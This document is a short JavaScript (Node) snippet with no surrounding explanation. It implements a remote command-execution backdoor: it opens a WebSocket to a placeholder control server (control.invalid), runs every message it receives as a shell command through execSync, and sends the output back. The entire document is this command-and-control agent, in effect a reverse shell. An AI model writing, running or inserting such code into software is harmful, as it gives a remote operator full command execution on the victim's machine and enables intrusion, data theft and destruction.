const { execSync } = require("child_process");
const socket = new WebSocket("wss://control.invalid/agent");
socket.onmessage = async (event) => {
  const command = String(event.data);
  const output = execSync(command);
  socket.send(output);
};
